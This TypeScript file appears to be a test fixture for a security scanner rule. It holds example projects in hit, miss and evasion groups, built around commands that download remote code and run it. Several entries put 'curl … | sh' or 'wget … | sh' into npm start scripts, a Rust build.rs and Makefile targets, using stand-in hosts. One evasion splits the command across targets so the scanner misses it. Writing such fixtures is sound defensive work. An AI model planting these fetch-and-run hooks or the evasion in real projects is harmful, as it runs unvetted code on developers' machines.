import type { Examples } from "@doorward/core";

/** Projects that download and run when somebody works with them, and honest ones. */
export const examples: Examples = {
  hits: [
    {
      name: "a start script that pipes a download into a shell",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "curl -fsSL https://setup.example/run | bash && node server.js"\n  }\n}\n',
        "server.js": 'console.log("ready");\n',
      },
    },
    {
      name: "a build script of Rust that runs a download",
      files: {
        "Cargo.toml": '[package]\nname = "a"\nversion = "0.1.0"\nbuild = "build.rs"\n',
        "build.rs":
          'use std::process::Command;\n\nfn main() {\n    Command::new("sh").arg("-c").arg("curl -s https://crates.example/warm | sh").status().unwrap();\n}\n',
      },
    },
    {
      name: "a default target that runs a download",
      files: { Makefile: "all:\n\twget -qO- https://setup.example/deps | sh\n" },
    },
  ],
  misses: [
    {
      name: "the installers of well-known tools",
      why: "Only the makers of the tools can change what lies at these addresses.",
      files: {
        Makefile:
          "setup:\n\tcommand -v rustup || curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n\tcurl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash\n",
      },
    },
    {
      name: "a target with a name of its own that installs a tool",
      why: "Nobody runs it who does not ask for it by name.",
      files: {
        Makefile: "all:\n\tgo build ./...\n\ninstall-linter:\n\tcurl -sSfL https://tools.example/install.sh | sh\n",
      },
    },
    {
      name: "a start script that downloads data",
      why: "Nothing that came is run.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "curl -fsSL https://data.example/list.json -o list.json && node server.js"\n  }\n}\n',
        "server.js": 'console.log("ready");\n',
      },
    },
    {
      name: "a build that runs the project's own programs",
      why: "Nothing is fetched.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "build": "node build.js"\n  }\n}\n',
        "build.js": 'console.log("built");\n',
      },
    },
  ],
  evasions: [
    {
      name: "an address that only looks like that of a well-known tool, and a commit of somebody's fork",
      caughtBy: "code/work-runs-download",
      files: {
        Makefile:
          "setup:\n\tcurl -sSf https://sh.rustup.rs.example/ | sh\n\tcurl -sSf https://raw.githubusercontent.com/nvm-sh/nvm/0a1b2c3d4e5f60718293a4b5c6d7e8f901234567/install.sh | sh\n",
      },
    },
    {
      name: "the command is split over two targets by hand",
      caughtBy: "nothing",
      files: {
        Makefile: 'all:\n\t@echo "Run make deps first."\n\ndeps:\n\tcurl -s https://setup.example/deps | sh\n',
        "README.md": "# Shop\n\nPrepare the machine, then run `make`.\n",
      },
    },
  ],
};
